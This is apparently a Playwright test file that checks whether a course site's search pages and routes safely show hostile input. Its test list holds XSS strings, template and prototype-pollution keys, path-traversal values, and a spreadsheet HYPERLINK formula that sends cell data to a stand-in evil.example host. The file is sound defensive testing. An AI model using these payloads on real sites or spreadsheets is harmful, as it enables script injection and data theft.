import { expect, test } from '../support/test.ts';

/** Texts that a page could trip over: markup, interpolation, control and bidirectional signs, half a surrogate pair, formulas. */
const BAD_TEXTS = [
  '<script>document.title="pwned"</script>',
  '"><img src=x onerror="document.title=\'pwned\'">',
  'javascript:document.title="pwned"',
  '{{name}} {{- name}}',
  '$t(courses.title) $t(common:a, {"x":1})',
  '<0>x</0> &lt;b&gt; %s %d $\u007b7*7}',
  '__proto__',
  'constructor',
  '\u202ertl\u202c نص عربي',
  '👩‍👩‍👧‍👦 Z̷a̷l̷g̷o̷',
  '=HYPERLINK("https://evil.example?x="&A1)',
  '1e309 -1 9007199254740993 ٣',
  '\ufeffbom \u200bzero',
];

for (const text of BAD_TEXTS) {
  test(`the search shows ${JSON.stringify(text)} as it is, and the page stays whole`, async ({ page }) => {
    for (const list of ['/courses', '/en/resources']) {
      await page.goto(`${list}?q=${encodeURIComponent(text)}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.getByRole('main').getByRole('searchbox')).toHaveValue(text);
      await expect(page.getByRole('main').getByRole('status').first()).toBeVisible();
    }
    await page.goto('/courses');
    await page.getByRole('main').getByRole('searchbox').fill(text);
    await expect(page).toHaveURL(/q=/);
    await expect(page.getByRole('main').getByRole('searchbox')).toHaveValue(text);
    expect(await page.title()).not.toContain('pwned');
  });
}

test('parameters that make no sense are left out', async ({ page }) => {
  const query =
    'category=%3Cscript%3E&level=__proto__&language=de&length=9&preview=x&instructor=../../x&sort=1&page=-1';
  for (const address of [
    `/courses?${query}`,
    '/courses?page=99999',
    '/courses?q=%ED%A0%80&%',
    '/resources?kind=constructor&access=0',
  ]) {
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByRole('main').getByRole('status').first()).toBeVisible();
  }
  await page.goto(`/courses?${query}`);
  await expect(page.getByRole('article')).toHaveCount(12);
});

test('addresses that name nothing answer with the page that says so', async ({ page, problems }) => {
  for (const id of ['__proto__', '%3Cimg%20src=x%3E', 'nu-exista', '..%2Fusers']) {
    for (const list of ['courses', 'resources']) {
      await page.goto(`/${list}/${id}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.getByRole('main')).toContainText(/nu a fost găsit|nu există|Not Found/i);
    }
  }
  problems.length = 0;
});
